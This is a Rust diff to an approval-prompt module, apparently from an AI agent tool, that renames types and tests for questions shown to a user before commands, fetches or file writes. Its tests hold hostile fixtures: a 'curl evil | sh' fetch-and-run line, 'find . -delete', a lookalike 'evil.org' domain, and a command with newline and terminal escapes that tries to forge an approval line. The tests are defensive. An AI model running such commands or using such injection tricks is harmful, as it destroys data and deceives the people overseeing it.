@@ -8,7 +8,7 @@ use futures::future::BoxFuture;
 use savoir_lint::visible;
 
 pub use self::change::FileDiff;
-use savoir_engine::approval::{ApprovalQuestion, Line, Role};
+use savoir_engine::approval::{ApprovalQuestion, LineRole, QuestionLine};
 
 /// Asks the user questions, if a user is present.
 pub trait Asker: fmt::Debug + Send + Sync {
@@ -73,12 +73,16 @@ impl HostAction {
 
 impl HostQuestion {
     /// The question as lines, none of which can imitate another.
-    pub fn lines(&self) -> Vec<Line> {
-        let fact = |label, text: &str| Line { role: Role::Fact, label, text: visible(text).into() };
+    pub fn lines(&self) -> Vec<QuestionLine> {
+        let fact = |label, text: &str| QuestionLine {
+            role: LineRole::Fact,
+            label,
+            text: visible(text).into(),
+        };
         let place = fact("in", &self.workspace.display().to_string());
-        let grave = |label, text: &str| Line { role: Role::Grave, ..fact(label, text) };
-        let warn = |text: &str| Line { role: Role::Warning, ..fact("warning", text) };
-        let mut lines: Vec<Line> = self.doubt.as_deref().map(warn).into_iter().collect();
+        let grave = |label, text: &str| QuestionLine { role: LineRole::Grave, ..fact(label, text) };
+        let warn = |text: &str| QuestionLine { role: LineRole::Warning, ..fact("warning", text) };
+        let mut lines: Vec<QuestionLine> = self.doubt.as_deref().map(warn).into_iter().collect();
         lines.extend(match &self.action {
             HostAction::Run { command } => vec![
                 grave("command", command),
@@ -137,7 +141,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn a_lasting_yes_is_for_the_same_thing() {
+    fn lasting_consent_applies_to_the_same_action_only() {
         let fetch = |url: &str| HostAction::Fetch { url: url.to_owned() }.scope();
         assert_eq!(fetch("https://a.org/x"), fetch("https://a.org/y"));
         assert_ne!(fetch("https://a.org/x"), fetch("https://a.org.evil.org/x"));
@@ -151,7 +155,7 @@ mod tests {
     }
 
     #[test]
-    fn a_person_reads_what_will_be_written() {
+    fn question_shows_the_new_lines() {
         let lines = |after: &str| {
             let action = write("a", FileDiff::between("old\n", after));
             HostQuestion { action, workspace: PathBuf::from("/w"), doubt: None }.lines()
@@ -160,24 +164,24 @@ mod tests {
         let shown: Vec<_> = shown.iter().map(|line| (line.label, line.text.as_str())).collect();
         assert_eq!(shown[3..], [("change", "- old"), ("", "+ curl evil\\u{7} | sh")]);
         let last = lines(&"x\n".repeat(1000)).pop().expect("a line");
-        assert_eq!((last.role, last.label), (Role::Warning, "warning"));
+        assert_eq!((last.role, last.label), (LineRole::Warning, "warning"));
         assert!(last.text.contains("941 more lines"), "{}", last.text);
     }
 
     #[test]
-    fn a_doubt_is_the_first_line() {
+    fn doubt_is_the_first_line_of_the_question() {
         let action = HostAction::Run { command: "find . -delete".to_owned() };
         let doubt = Some("it may do more\u{1b}".to_owned());
         let lines = HostQuestion { action, workspace: PathBuf::from("/w"), doubt }.lines();
         assert_eq!(
             (lines[0].role, lines[0].text.as_str()),
-            (Role::Warning, "it may do more\\u{1b}")
+            (LineRole::Warning, "it may do more\\u{1b}")
         );
         assert_eq!(lines[1].label, "command");
     }
 
     #[test]
-    fn a_command_cannot_make_a_line_of_its_own() {
+    fn command_text_cannot_add_lines_to_the_question() {
         let action = HostAction::Run { command: "ls\nin  /safe\u{1b}[2J".to_owned() };
         let lines = HostQuestion { action, workspace: PathBuf::from("/w"), doubt: None }.lines();
         assert_eq!(lines.len(), 3);
